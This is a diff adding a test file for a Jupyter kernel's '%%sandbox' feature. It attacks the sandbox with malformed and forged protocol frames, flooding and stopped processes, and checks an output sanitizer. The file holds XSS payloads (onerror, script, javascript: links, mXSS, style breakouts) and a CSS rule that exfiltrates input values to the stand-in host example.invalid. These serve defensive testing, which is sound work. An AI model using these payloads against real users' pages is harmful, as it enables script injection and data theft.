@@ -1,0 +1,867 @@
+"""``%%sandbox`` treats the sandbox as hostile: its protocol frames and its display output.
+
+A cell runs as an attacker would: it writes to its own channel socket (found among the
+cell runner's descriptors) whatever it likes, patches the runner it runs in, traces its
+own init, and displays active content. Through a real kernel (jupyter_client) each test
+checks what the user sees, that a named sandbox made before keeps its state, that the
+kernel's namespace is untouched and that later cells work. Root and rootless (CI runs the
+suite twice). The browser test runs a real JupyterLab in chromium.
+"""
+
+from __future__ import annotations
+
+import base64
+import html.parser
+import json
+import os
+import signal
+import time
+
+import pytest
+
+from nskernel._linux import procfs
+from nskernel.magics import messages, protocol, untrusted
+from tests.magic_helpers import Result, execute, kernel, wait_gone
+from tests.test_widgets_browser import lab  # noqa: F401 - the JupyterLab fixture
+
+pytestmark = [pytest.mark.kernel, pytest.mark.userns]
+
+KEPT = "kept-state-41"
+
+# Run first in a hostile cell: how it finds and writes its channel to the server.
+CHANNEL = """\
+import json, os, stat, struct, time
+
+def channel():
+    # The cell runner's channel to the server: the one socket among its descriptors.
+    socks = []
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
+                socks.append(int(name))
+        except OSError:
+            pass
+    assert len(socks) == 1, socks
+    return socks[0]
+
+def send_raw(data):
+    fd, view = channel(), memoryview(data)
+    while view:
+        view = view[os.write(fd, view):]
+
+def frame(body):
+    if not isinstance(body, bytes):
+        body = json.dumps(body).encode()
+    return struct.pack("!I", len(body)) + body
+"""
+
+STOPPED = "the sandbox sent a malformed message and was stopped"
+
+
+@pytest.fixture(scope="module")
+def kc():
+    """One kernel, with a named sandbox ``keeper`` holding state, and a kernel variable."""
+    with kernel() as (_km, kc):
+        res = execute(kc, f"%%sandbox --name keeper --hostname keeper\nkept = {KEPT!r}")
+        assert res.status == "ok", res.error_text
+        assert execute(kc, "sentinel = 'untouched'").status == "ok"
+        yield kc
+
+
+def assert_all_well(kc) -> None:
+    """The named sandbox made first kept its state, the kernel its namespace (and its
+    builtins), and a new cell works."""
+    res = execute(kc, "%%sandbox --name keeper\nprint(kept)")
+    assert res.status == "ok" and res.stdout == f"{KEPT}\n", res.error_text
+    res = execute(kc, "print(sentinel, len([1, 2]), 'injected' in dir())")
+    assert res.stdout == "untouched 2 False\n", res.error_text
+    res = execute(kc, "%%sandbox\nprint('fresh')")
+    assert res.status == "ok" and res.stdout == "fresh\n", res.error_text
+
+
+def inspect_pid(kc, name: str) -> int:
+    res = execute(kc, f"info = %sandbox inspect {name}\nprint(info['pid'])")
+    assert res.status == "ok", res.error_text
+    return int(res.stdout)
+
+
+def runner_of(init_pid: int) -> int:
+    with open(f"/proc/{init_pid}/task/{init_pid}/children") as f:
+        return int(f.read().split()[0])
+
+
+def stopped_cell(res: Result) -> None:
+    assert res.status == "error", res.outputs
+    assert res.reply["content"]["ename"] == "SandboxStopped", res.error_text
+    assert STOPPED in res.error_text
+
+
+# ------------------------------------------------------------------ malformed frames
+
+MALFORMED = {
+    "garbage": 'b"\\xff" * 64',
+    "oversized-length": 'struct.pack("!I", 200 << 20) + b"{"',
+    "invalid-json": 'frame(b"{not json")',
+    "not-an-object": 'frame(b"[1, 2, 3]")',
+    "too-deep": 'frame(b\'{"type": "display_data", "data": {"application/json": \' '
+    "+ b'[' * 100000 + b']' * 100000 + b'}}')",
+    "wrong-field-type": 'frame({"type": "stream", "name": "stdout", "text": {"a": 1}})',
+    "wrong-bundle": 'frame({"type": "display_data", "data": ["text/html"]})',
+    "unknown-type": 'frame({"type": "comm_msg", "content": {"comm_id": "x", "data": {}}})',
+}
+
+
+@pytest.mark.parametrize("payload", list(MALFORMED.values()), ids=list(MALFORMED))
+def test_a_malformed_frame_stops_that_sandbox_only(kc, payload):
+    res = execute(kc, f"%%sandbox\n{CHANNEL}\nsend_raw({payload})\ntime.sleep(60)")
+    stopped_cell(res)
+    assert_all_well(kc)
+
+
+def test_a_named_sandbox_that_breaks_the_protocol_is_gone_and_says_so(kc):
+    assert execute(kc, "%%sandbox --name bad1\nx = 1").status == "ok"
+    pid = inspect_pid(kc, "bad1")
+    runner = runner_of(pid)
+    res = execute(kc, f"%%sandbox --name bad1\n{CHANNEL}\nsend_raw(b'\\x00\\x00\\x00\\x02!!')")
+    stopped_cell(res)
+    assert "named sandbox 'bad1' is gone" in res.error_text
+    # Said once it is true: its init was SIGKILLed and reaped, the runner went with it.
+    assert not procfs.alive(pid) and not procfs.alive(runner)
+    assert "bad1" not in execute(kc, "%sandbox ls").result
+    res = execute(kc, "%%sandbox --name bad1\nprint('x' in dir())")
+    assert res.stdout == "False\n", res.error_text  # a fresh one under the same name
+    execute(kc, "%sandbox rm bad1")
+    assert_all_well(kc)
+
+
+def test_a_frame_while_no_cell_runs_stops_that_sandbox_and_the_next_cell_says_so(kc):
+    # The cell arms a handler; the test fires it once the cell is over, so the garbage
+    # arrives while no cell of this sandbox runs.
+    code = (
+        f"%%sandbox --name idle1\n{CHANNEL}\nimport signal\n"
+        "signal.signal(signal.SIGUSR1, lambda *a: send_raw(b'\\xff' * 16))"
+    )
+    assert execute(kc, code).status == "ok"
+    pid = inspect_pid(kc, "idle1")
+    os.kill(runner_of(pid), 10)  # SIGUSR1
+    assert wait_gone(pid, 30), "a sandbox that broke the protocol between cells lives on"
+    res = execute(kc, "%%sandbox --name idle1\nprint('ran')")
+    assert res.status == "error" and "ran" not in res.stdout
+    text = res.error_text
+    assert "named sandbox 'idle1' was stopped while no cell of it ran" in text, text
+    assert STOPPED in text and "Nothing ran" in text
+    res = execute(kc, "%%sandbox --name idle1\nprint('x' in dir())")
+    assert res.stdout == "False\n", res.error_text  # as the message said: afresh
+    execute(kc, "%sandbox rm idle1")
+    assert_all_well(kc)
+
+
+def test_output_between_cells_is_dropped_and_the_sandbox_lives(kc):
+    # What a well-behaved cell leaves running may print, even a lot, and display between
+    # cells: that is no protocol error (it has no cell to go to, and is dropped).
+    code = (
+        "%%sandbox --name chatty1\nimport signal, threading\n"
+        "from IPython.display import HTML, display\n"
+        "go = threading.Event()\n"
+        "def talk():\n"
+        "    go.wait()\n"
+        "    print('x' * 3_000_000)\n"
+        "    display(HTML('<b>late</b>' * 200_000))\n"
+        "    print('talked', flush=True)\n"
+        "    open('/tmp/talked', 'w').close()\n"
+        "threading.Thread(target=talk, daemon=True).start()\n"
+        "signal.signal(signal.SIGUSR1, lambda *a: go.set())\n"
+        "state = 'alive'"
+    )
+    assert execute(kc, code).status == "ok"
+    runner = runner_of(inspect_pid(kc, "chatty1"))
+    os.kill(runner, 10)  # SIGUSR1: talk now, while no cell runs
+    done = f"/proc/{runner}/root/tmp/talked"  # its private /tmp, seen from here
+    deadline = time.monotonic() + 30
+    while not os.path.exists(done):
+        assert time.monotonic() < deadline, "the background thread never finished talking"
+        time.sleep(0.05)
+    res = execute(kc, "%%sandbox --name chatty1\nprint(state)")
+    assert res.status == "ok" and res.stdout == "alive\n", res.error_text
+    execute(kc, "%sandbox rm chatty1")
+
+
+# ------------------------------------------------------------------ forged results
+
+
+FORGED_DONE = (
+    'frame({"type": "cell_done", "status": "ok", "out_error": None, "outputs": '
+    '{"wanted": [1, "two"], "__builtins__": {"x": 1}, "sentinel": "overwritten", '
+    '"injected": 2}})'
+)
+
+
+def test_a_forged_cell_done_sets_only_the_out_names_asked_for(kc):
+    res = execute(kc, f"%%sandbox --out wanted\n{CHANNEL}\nsend_raw({FORGED_DONE})\ntime.sleep(60)")
+    assert res.status == "ok", res.error_text
+    res = execute(kc, "print(wanted)")
+    assert res.stdout == "[1, 'two']\n", res.error_text
+    assert_all_well(kc)  # sentinel, builtins untouched, nothing injected
+
+
+def test_a_forged_out_value_that_does_not_decode_sets_nothing(kc):
+    forged = (
+        'frame({"type": "cell_done", "status": "ok", "out_error": None, "outputs": '
+        '{"a1": 1, "b1": {"__nskernel_bytes__": 5}}})'
+    )
+    res = execute(kc, f"%%sandbox --out a1,b1\n{CHANNEL}\nsend_raw({forged})\ntime.sleep(60)")
+    assert res.status == "error"
+    assert res.reply["content"]["ename"] == "SandboxOutputError"
+    assert "--out b1" in res.error_text and "nothing was set" in res.error_text
+    assert execute(kc, "print('a1' in dir(), 'b1' in dir())").stdout == "False False\n"
+    assert_all_well(kc)
+
+
+# ------------------------------------------------------------------ stalled, flooding, lying
+
+
+def test_a_runner_that_stops_reading_and_floods_blocks_nothing(kc):
+    # After this cell the runner never reads its socket again, and a thread floods it
+    # with output that has no cell to go to.
+    code = f"""%%sandbox --name stall1
+{CHANNEL}
+import threading
+from nskernel.magics import protocol
+started = threading.Event()
+def never(self, timeout=None):
+    started.set()
+    time.sleep(10**6)
+protocol.FrameReader.next = never
+def flood():
+    started.wait()
+    chunk = frame({{"type": "stream", "name": "stdout", "text": "x" * 60000}})
+    while True:
+        send_raw(chunk)
+threading.Thread(target=flood, daemon=True).start()
+"""
+    assert execute(kc, code).status == "ok"
+    pid = inspect_pid(kc, "stall1")
+    t0 = time.monotonic()
+    res = execute(kc, "%sandbox ls")
+    assert res.status == "ok", res.error_text
+    assert "keeper" in res.result and "stall1" in res.result
+    assert time.monotonic() - t0 < 30  # generous: the facts deadline is a few seconds
+    # A big cell for a runner that reads nothing: the send waits in the server, which
+    # goes on serving; the timeout ends the sandbox and says so once it is dead.
+    big = "x = 1\n" + "# padding\n" * 200_000
+    res = execute(kc, f"%%sandbox --name stall1 --timeout 3\n{big}", timeout=60)
+    assert res.reply["content"]["ename"] == "SandboxTimeout", res.error_text
+    assert "killed" in res.error_text and "sandbox 'stall1' was removed" in res.error_text
+    assert not procfs.alive(pid)
+    assert_all_well(kc)
+
+
+def test_facts_answers_that_lie_are_huge_or_never_come_leave_ls_prompt(kc):
+    liar = (
+        "from nskernel.magics import cellrunner\n"
+        "cellrunner.gather_facts = lambda: "
+        "{'hostname': ['not', 'a', 'name'], 'ips': 5, 'junk': 'x' * 500_000}"
+    )
+    huge = (
+        "from nskernel.magics import cellrunner\n"
+        "_send = cellrunner._Channel.send\n"
+        "def send(self, msg, **kw):\n"
+        "    if msg.get('type') == 'facts':\n"
+        "        msg = {'type': 'facts', 'facts': {'hostname': 'h' * 3_000_000}}\n"
+        "    return _send(self, msg, **kw)\n"
+        "cellrunner._Channel.send = send"
+    )
+    mute = (
+        "from nskernel.magics import cellrunner\nimport time\n"
+        "cellrunner.gather_facts = lambda: time.sleep(10**6)"
+    )
+    for name, code in (("liar1", liar), ("huge1", huge), ("mute1", mute)):
+        res = execute(kc, f"%%sandbox --name {name} --hostname {name}\n{code}")
+        assert res.status == "ok", res.error_text
+    try:
+        for _ in range(2):  # the second time, nobody waits for mute1 again
+            t0 = time.monotonic()
+            res = execute(kc, "%sandbox ls")
+            assert res.status == "ok", res.error_text
+            assert time.monotonic() - t0 < 30  # generous: the facts deadline is 2 s
+            table = res.result
+            assert len(table) < 10_000 and "hhhhhhhh" not in table
+            rows = {line.split()[0]: line.split() for line in table.splitlines()[1:]}
+            assert rows["keeper"][2] == "keeper"
+            assert rows["liar1"][2] == "liar1"  # its forged hostname was no name
+            assert "mute1" in rows
+            assert "huge1" not in rows  # a facts frame over the limit stopped it
+        res = execute(kc, "%%sandbox --name huge1\nprint(1)")
+        assert "named sandbox 'huge1' was stopped while no cell of it ran" in res.error_text
+    finally:
+        execute(kc, "%sandbox rm liar1 mute1")
+    assert_all_well(kc)
+
+
+# ------------------------------------------------------------------ kill paths
+
+
+def _stop(pid: int) -> None:
+    """Stop a sandbox's init from the host, as the sandbox itself could with ptrace (given
+    CAP_SYS_PTRACE): stopped, init can no longer act on its lifeline."""
+    os.kill(pid, signal.SIGSTOP)
+    deadline = time.monotonic() + 10
+    while _state(pid) not in ("T", "t"):
+        assert time.monotonic() < deadline, "the sandbox's init never stopped"
+        time.sleep(0.02)
+
+
+def _state(pid: int) -> str | None:
+    try:
+        with open(f"/proc/{pid}/stat") as f:
+            return f.read().rsplit(")", 1)[1].split()[0]
+    except OSError:
+        return None
+
+
+def test_rm_says_removed_only_once_a_sandbox_with_a_stopped_init_is_dead(kc):
+    res = execute(
+        kc, "%%sandbox --name stopped1\nimport subprocess\nsubprocess.Popen(['sleep', '300'])"
+    )
+    assert res.status == "ok", res.error_text
+    pid = inspect_pid(kc, "stopped1")
+    members = [pid, *_descendants(pid)]
+    _stop(pid)
+    res = execute(kc, "%sandbox rm stopped1")
+    assert res.status == "ok" and res.stdout == "removed: stopped1\n", res.error_text
+    alive = [p for p in members if procfs.alive(p)]
+    assert not alive, f"reported removed, but these of its processes live: {alive}"
+    assert_all_well(kc)
+
+
+def test_timeout_says_killed_only_once_a_sandbox_with_a_stopped_init_is_dead(kc):
+    res = execute(kc, "%%sandbox --name stopped2\npass")
+    assert res.status == "ok", res.error_text
+    pid = inspect_pid(kc, "stopped2")
+    _stop(pid)  # its runner still runs the next cell; its init can do nothing
+    res = execute(kc, "%%sandbox --name stopped2 --timeout 3\nimport time\ntime.sleep(60)")
+    assert res.reply["content"]["ename"] == "SandboxTimeout", res.error_text
+    assert "was killed" in res.error_text and "'stopped2' was removed" in res.error_text
+    assert not procfs.alive(pid), "reported killed, but its init lives"
+    assert_all_well(kc)
+
+
+@pytest.mark.parametrize("flags", ["", "--net"], ids=["all-six", "without-pid-namespace"])
+def test_a_cells_background_processes_end_with_its_sandbox(kc, flags):
+    # Ending a sandbox must not orphan what its cell started: with a PID namespace the
+    # kernel kills it with init; without one, init does, before it is SIGKILLed itself.
+    code = f"%%sandbox {flags}\nimport subprocess\nprint(subprocess.Popen(['sleep', '300']).pid)"
+    res = execute(kc, code)
+    assert res.status == "ok", res.error_text
+    if flags:  # no PID namespace: the PID is the host's
+        assert wait_gone(int(res.stdout), 20), "a process of the cell outlived its sandbox"
+    res = execute(
+        kc,
+        f"%%sandbox --name bg1 {flags}\nimport subprocess\np = subprocess.Popen(['sleep', '300'])",
+    )
+    assert res.status == "ok", res.error_text
+    init = inspect_pid(kc, "bg1")
+    if flags:
+        sleeper = int(execute(kc, "%%sandbox --name bg1\nprint(p.pid)").stdout)
+    else:
+        sleeper = next(p for p in _descendants(init) if "sleep" in _cmdline(p))
+    assert execute(kc, "%sandbox rm bg1").status == "ok"
+    assert not procfs.alive(init)
+    assert wait_gone(sleeper, 20), "a process of a removed sandbox lives on"
+
+
+def _descendants(pid: int) -> list[int]:
+    out, todo = [], [pid]
+    while todo:
+        p = todo.pop()
+        try:
+            with open(f"/proc/{p}/task/{p}/children") as f:
+                kids = [int(k) for k in f.read().split()]
+        except OSError:
+            continue
+        out += kids
+        todo += kids
+    return out
+
+
+def _cmdline(pid: int) -> str:
+    try:
+        with open(f"/proc/{pid}/cmdline", "rb") as f:
+            return f.read().decode(errors="replace")
+    except OSError:
+        return ""
+
+
+# ------------------------------------------------------------------ output in the browser
+
+ACTIVE = """\
+from IPython.display import HTML, Javascript, Markdown, SVG, display
+display(Javascript("window.nskPwned = 1"))
+display(HTML('<b>bold</b><img src=x onerror="window.nskPwned = 2"><script>window.nskPwned = 3</script>'))
+display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="window.nskPwned = 4"><script>window.nskPwned = 5</script><circle r="4"/></svg>'))
+display(Markdown("[click](javascript:window.nskPwned=6)"))
+display({"application/vnd.vegalite.v5+json": {"data": {"url": "https://example.invalid/x"}}, "text/plain": "a chart"}, raw=True)
+"""  # noqa: E501
+
+
+def test_active_output_arrives_inert_with_a_note(kc):
+    res = execute(kc, "%%sandbox\n" + ACTIVE)
+    assert res.status == "ok", res.error_text
+    shown = res.displays
+    assert len(shown) == 5
+    js, page, svg, md, chart = shown
+    assert "application/javascript" not in js and js.get("text/plain")
+    assert "<b>bold</b>" in page["text/html"]
+    for bad in ("onerror", "<script", "nskPwned"):
+        assert bad not in page["text/html"]
+    assert "image/svg+xml" not in svg
+    # Drawn as an image: a browser runs no script of an SVG <img>.
+    prefix = '<img src="data:image/svg+xml;base64,'
+    assert svg["text/html"].startswith(prefix), svg
+    assert "text/markdown" not in md and "javascript:" in md["text/plain"]  # shown as text
+    assert list(chart) == ["text/plain"]
+    note = res.stderr
+    for what in ("application/javascript", "onerror", "<script>", "SVG", "markdown"):
+        assert what in note, note
+    assert "application/vnd.vegalite.v5+json" in note and "--trust-output" in note
+
+
+def test_trust_output_passes_everything_as_sent(kc):
+    res = execute(kc, "%%sandbox --trust-output\n" + ACTIVE)
+    assert res.status == "ok", res.error_text
+    js, page, svg, md, chart = res.displays
+    assert js["application/javascript"] == "window.nskPwned = 1"
+    assert 'onerror="window.nskPwned = 2"' in page["text/html"] and "<script>" in page["text/html"]
+    assert "window.nskPwned = 5" in svg["image/svg+xml"]
+    assert md["text/markdown"] == "[click](javascript:window.nskPwned=6)"
+    assert "application/vnd.vegalite.v5+json" in chart
+    assert "made inert" not in res.stderr
+
+
+# pandas 3.1's DataFrame({"a": [1, 2], "b": ["x<y", "z"]})._repr_html_() and a Styler's
+# (pandas is not a test dependency; this is its output, verbatim but shortened).
+PANDAS_HTML = """<div>
+<style scoped>
+    .dataframe tbody tr th:only-of-type {
+        vertical-align: middle;
+    }
+
+    .dataframe tbody tr th {
+        vertical-align: top;
+    }
+
+    .dataframe thead th {
+        text-align: right;
+    }
+</style>
+<table border="1" class="dataframe">
+  <thead>
+    <tr style="text-align: right;">
+      <th></th>
+      <th>a</th>
+      <th>b</th>
+    </tr>
+  </thead>
+  <tbody>
+    <tr>
+      <th>0</th>
+      <td>1</td>
+      <td>x&lt;y</td>
+    </tr>
+    <tr>
+      <th>1</th>
+      <td>2</td>
+      <td>z</td>
+    </tr>
+  </tbody>
+</table>
+</div>"""
+STYLER_HTML = """<style type="text/css">
+#T_86525_row0_col0 {
+  background-color: #fff7fb;
+  color: #000000;
+}
+</style>
+<table id="T_86525">
+  <thead>
+    <tr>
+      <th class="blank level0" >&nbsp;</th>
+      <th id="T_86525_level0_col0" class="col_heading level0 col0" >a</th>
+    </tr>
+  </thead>
+  <tbody>
+    <tr>
+      <th id="T_86525_level0_row0" class="row_heading level0 row0" >0</th>
+      <td id="T_86525_row0_col0" class="data row0 col0" >1</td>
+    </tr>
+  </tbody>
+</table>
+"""
+PNG = (  # a 1x1 PNG
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9aw"
+    "AAAABJRU5ErkJggg=="
+)
+MARKDOWN = "# Results\n\n*Mean* is `x < 5`; see [the docs](https://example.org/a?b=1).\n\n$a^2$"
+
+
+class _Table(html.parser.HTMLParser):
+    """A table as the browser would build it: tags, attributes (styles as declarations)
+    and text, without the wrappers and stylesheets around it."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.events: list[tuple] = []
+        self.depth = 0
+        self.skip = False
+
+    def handle_starttag(self, tag, attrs):
+        if tag == "table":
+            self.depth += 1
+        self.skip = tag == "style"
+        if self.depth and tag != "tbody":
+            norm = {
+                k: ";".join(sorted(d.strip() for d in (v or "").split(";") if d.strip()))
+                if k == "style"
+                else (v or "")
+                for k, v in attrs
+            }
+            norm = {k: v.replace(": ", ":") if k == "style" else v for k, v in norm.items()}
+            self.events.append(("start", tag, tuple(sorted(norm.items()))))
+
+    def handle_endtag(self, tag):
+        self.skip = False
+        if self.depth and tag != "tbody":
+            self.events.append(("end", tag))
+        if tag == "table":
+            self.depth -= 1
+
+    def handle_data(self, data):
+        if self.depth and not self.skip and data.strip():
+            self.events.append(("text", data.strip()))
+
+
+def table_of(fragment: str) -> list[tuple]:
+    p = _Table()
+    p.feed(fragment)
+    return p.events
+
+
+def test_tables_images_markdown_latex_and_json_arrive_intact(kc):
+    execute(kc, f"frame_html, styler_html = {PANDAS_HTML!r}, {STYLER_HTML!r}")
+    code = f"""%%sandbox --in frame_html,styler_html
+from IPython.display import HTML, Image, Latex, Markdown, JSON, display
+import base64
+display(HTML(frame_html))
+display(HTML(styler_html))
+display(Image(data=base64.b64decode({PNG!r}), format="png"))
+display(Markdown({MARKDOWN!r}))
+display(Latex(r"$\\frac{{1}}{{2}}$"))
+display(JSON({{"k": [1, 2, {{"n": None}}]}}))
+"""
+    res = execute(kc, code)
+    assert res.status == "ok", res.error_text
+    frame, styler, png, md, latex, data = res.displays
+    assert table_of(frame["text/html"]) == table_of(PANDAS_HTML)
+    assert table_of(styler["text/html"]) == table_of(STYLER_HTML)
+    # pandas' rules are kept, confined to this output's wrapper.
+    scope = frame["text/html"].split('"', 2)[1]
+    assert scope.startswith("nsk-out-") and frame["text/html"].startswith(f'<div class="{scope}">')
+    assert f".{scope} .dataframe thead th {{ text-align: right }}" in frame["text/html"]
+    styler_scope = styler["text/html"].split('"', 2)[1]
+    assert (
+        f".{styler_scope} #T_86525_row0_col0 {{ background-color: #fff7fb; color: #000000 }}"
+        in styler["text/html"]
+    )
+    assert png["image/png"] == PNG
+    assert md["text/markdown"] == MARKDOWN
+    assert latex["text/latex"] == "$\\frac{1}{2}$"
+    assert data["application/json"] == {"k": [1, 2, {"n": None}]}
+    assert res.stderr == "", res.stderr  # nothing was removed, so no note
+
+
+class _Styled(html.parser.HTMLParser):
+    """Each element's tag and inline style declarations, in document order."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.elements: list[tuple[str, frozenset[str]]] = []
+
+    def handle_starttag(self, tag, attrs):
+        style = dict(attrs).get("style") or ""
+        decls = {d.replace(" ", "").lower() for d in style.split(";") if d.strip()}
+        self.elements.append((tag, frozenset(decls)))
+
+
+def styled(fragment: str) -> list[tuple[str, frozenset[str]]]:
+    p = _Styled()
+    p.feed(fragment)
+    # The wrapper div has no style; a browser inserts tbody where nh3 wrote it out.
+    return [e for e in p.elements if (e[0] != "div" or e[1]) and e[0] != "tbody"]
+
+
+def test_the_projects_widgets_show_their_html_form_from_a_sandbox(kc):
+    code = (
+        "%%sandbox --hostname panel1\n"
+        "import json\n"
+        "from nskernel.widgets import compare\n"
+        "from nskernel.facts import gather_here\n"
+        "panel = compare(dict(gather_here(kind='sandbox')))\n"
+        "print(json.dumps([panel._repr_mimebundle_()['text/html']]))\n"
+        "display(panel)"
+    )
+    res = execute(kc, code)
+    assert res.status == "ok", res.error_text
+    (panel,) = res.displays
+    # No widget view of a model the kernel does not hold: the panel's HTML form instead,
+    # element for element with the same inline styles (and the value markers nbval
+    # sanitizes), as the sandbox made it.
+    assert "application/vnd.jupyter.widget-view+json" not in panel
+    page, made = panel["text/html"], res.json_line()[0]
+    assert "panel1" in page and "<!--nsk:v-->" in page
+    assert styled(page) == styled(made)
+    note = res.stderr
+    assert "widget view of a model the sandbox did not create" in note and "HTML" not in note
+
+
+def test_a_sandbox_cannot_show_or_update_the_kernels_widgets_and_displays(kc):
+    res = execute(
+        kc,
+        "import ipywidgets\nslider = ipywidgets.IntSlider(value=7)\nmid = slider.model_id\n"
+        "from IPython.display import display\n"
+        "handle = display('the kernel\\'s own', display_id='kernel-display')",
+    )
+    assert res.status == "ok", res.error_text
+    code = (
+        "%%sandbox --in mid\nfrom IPython.display import display, update_display\n"
+        "view = {'model_id': mid, 'version_major': 2, 'version_minor': 0}\n"
+        "display({'application/vnd.jupyter.widget-view+json': view, 'text/plain': 'v'}, "
+        "raw=True)\n"
+        "update_display({'text/plain': 'hijacked'}, raw=True, display_id='kernel-display')"
+    )
+    res = execute(kc, code)
+    assert res.status == "ok", res.error_text
+    (view,) = res.displays
+    assert view == {"text/plain": "v"}
+    (update,) = [o.content for o in res.outputs if o.kind == "update_display_data"]
+    assert update["transient"]["display_id"] != "kernel-display"
+    assert update["transient"]["display_id"].endswith(":kernel-display")
+    assert execute(kc, "print(slider.value)").stdout == "7\n"
+
+
+def test_display_data_is_capped_per_cell_and_keeps_its_order(kc):
+    code = (
+        "%%sandbox --max-output 1M\nfrom IPython.display import HTML, display\n"
+        "for i in range(8):\n"
+        "    print('before', i)\n"
+        "    display(HTML(f'<p>{i}</p>' + 'x' * 300_000))\n"
+        "print('the end')"
+    )
+    res = execute(kc, code, timeout=120)
+    assert res.status == "ok", res.error_text
+    seq = []
+    for o in res.outputs:
+        if o.kind == "display_data":
+            seq.append(o.content["data"]["text/html"][:8])
+        elif o.kind == "stream" and o.content["name"] == "stdout":
+            seq += o.text.splitlines()
+    assert seq[:6] == ["before 0", "<p>0</p>", "before 1", "<p>1</p>", "before 2", "<p>2</p>"]
+    assert [s for s in seq if s.startswith("<p>")] == ["<p>0</p>", "<p>1</p>", "<p>2</p>"]
+    assert seq[-1] == "the end" and "before 7" in seq
+    assert "5 display(s)" in res.stderr and "--max-output" in res.stderr
+
+
+# ------------------------------------------------------------------ the kernel's own checks
+# What the server relays came from a sandbox: the kernel checks it again.
+
+
+def test_the_kernel_checks_what_the_server_relays():
+    assert messages.relayed({"type": "stream", "name": "stdout", "text": 5}) is None
+    assert messages.relayed({"type": "stream", "name": "/etc/passwd", "text": "x"}) is None
+    assert messages.relayed({"type": "display_data", "data": ["x"]}) is None
+    assert messages.relayed({"type": "comm_msg", "content": {}}) is None
+    assert (
+        messages.relayed({"type": "error", "ename": "E" * 300, "evalue": "", "traceback": []})
+        is None
+    )
+    clean = messages.relayed({"type": "stream", "name": "stdout", "text": "a\ud800b"})
+    assert clean == {"type": "stream", "name": "stdout", "text": "a?b"}
+    with pytest.raises(messages.Malformed):
+        messages.done({"status": "ok", "outputs": ["__builtins__"]})
+    with pytest.raises(messages.Malformed):
+        messages.done({"status": "pwned"})
+    done = messages.done({"status": "ok", "outputs": {"a": 1}, "dropped": {"chars": "x"}})
+    assert done["outputs"] == {"a": 1} and done["dropped"] == {}
+    for bad in ({protocol.BYTES_TAG: 5}, {protocol.BYTES_TAG: "not base64!"}, {1: 2}, {3}):
+        with pytest.raises(ValueError):
+            protocol.decode_value(bad)
+    deep: object = 1
+    for _ in range(protocol.MAX_DEPTH + 5):
+        deep = [deep]
+    with pytest.raises(ValueError):
+        protocol.decode_value(deep)
+    assert protocol.decode_value({protocol.BYTES_TAG: base64.b64encode(b"ok").decode()}) == b"ok"
+
+
+def test_the_frame_reader_refuses_oversized_invalid_and_non_object_frames():
+    r, w = os.pipe()
+    try:
+        reader = protocol.FrameReader(r, max_frame=1024)
+        for data, what in (
+            (protocol.HEADER.pack(2048), "over the 1 KiB limit"),
+            (protocol.HEADER.pack(3) + b"{x}", "not valid JSON"),
+            (protocol.HEADER.pack(2) + b"[]", "a JSON list, not an object"),
+        ):
+            reader.buf = bytearray(data)
+            with pytest.raises(protocol.ProtocolError, match=what):
+                list(reader.frames())
+    finally:
+        os.close(r)
+        os.close(w)
+
+
+# ------------------------------------------------------------------ the sanitizer itself
+
+ATTACKS = {
+    "img-onerror": '<img src=x onerror="alert(1)">',
+    "script": "<script>alert(1)</script>",
+    "iframe": '<iframe src="https://example.invalid"></iframe>',
+    "javascript-link": '<a href="javascript:alert(1)">a</a>',
+    "javascript-link-with-tab": '<a href=" java&#x09;script:alert(1)">a</a>',
+    "object-embed": '<object data="x.swf"></object><embed src="x.swf">',
+    "svg-script-onload": '<svg><script>alert(1)</script></svg><svg onload="alert(1)"></svg>',
+    "mathml-link": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://example.invalid">',
+    "base": '<base href="https://example.invalid/">',
+    "link-stylesheet": '<link rel="stylesheet" href="https://example.invalid/x.css">',
+    "form-input-button": (
+        '<form action="https://example.invalid"><input name="a"><button>go</button></form>'
+    ),
+    "commandlinker": (
+        '<button data-commandlinker-command="terminal:create-new">open a terminal</button>'
+    ),
+    "details-ontoggle": '<details open ontoggle="alert(1)">x</details>',
+    "style-import": '<style>@import url("https://example.invalid/x.css");</style>',
+    "style-url-exfiltration": (
+        "<style>input[value^=a] { background: url(https://example.invalid/a) }</style>"
+    ),
+    "inline-url": '<p style="background-image: url(https://example.invalid/track)">x</p>',
+    "inline-escaped-url": '<p style="background: u\\72l(https://example.invalid/track)">x</p>',
+    "inline-position-fixed": (
+        '<p style="position: fixed; top: 0; left: 0; width: 100vw; height: 100vh">x</p>'
+    ),
+    "style-element-breakout": (
+        '<style>p { font-family: "\\3c /style><img src=x onerror=alert(1)>" }</style><p>x</p>'
+    ),
+    "style-rule-breakout": "<style>p { color: red } } body { display: none }</style>",
+    "image-url": '<img src="https://example.invalid/track.png">',
+    "jupyterlab-class": '<div class="jp-Dialog">fake dialog</div>',
+    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+}
+
+
+@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
+def test_the_html_sanitizer_leaves_nothing_active(attack):
+    s = untrusted.Sanitizer("t")
+    out = s.html(attack).lower()
+    for bad in ("<script", "onerror", "onload", "ontoggle", "javascript:", "<iframe", "<object",
+                "<embed", "<svg", "<math", "<meta", "<base", "<link", "<form", "<input",
+                "<button", "commandlinker", "@import", "url(", "position", "example.invalid",
+                "jp-dialog"):  # fmt: skip
+        assert bad not in out, (attack, out)
+    for sheet in out.split("<style>")[1:]:
+        rules = sheet.split("</style>")[0]
+        for rule in filter(str.strip, rules.split("}")):
+            assert rule.strip().startswith(".nsk-out-"), (attack, out)
+    if "body" not in attack:  # that one is confined (to match nothing), not removed
+        assert s.note() and "--trust-output" in s.note()
+
+
+@pytest.mark.parametrize(
+    ("markdown", "inert"),
+    [
+        ("# Title\n\n*a* **b** `x < 5` [docs](https://example.org) $x^2$", True),
+        ("| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n\n- item", True),
+        ("![plot](data:image/png;base64,iVBORw0KGgo=) [rel](other.ipynb#x)", True),
+        ("<img src=x onerror=alert(1)>", False),
+        ("a<b>bold</b>", False),
+        ("<!-- hidden -->", False),
+        ("[x](javascript:alert(1))", False),
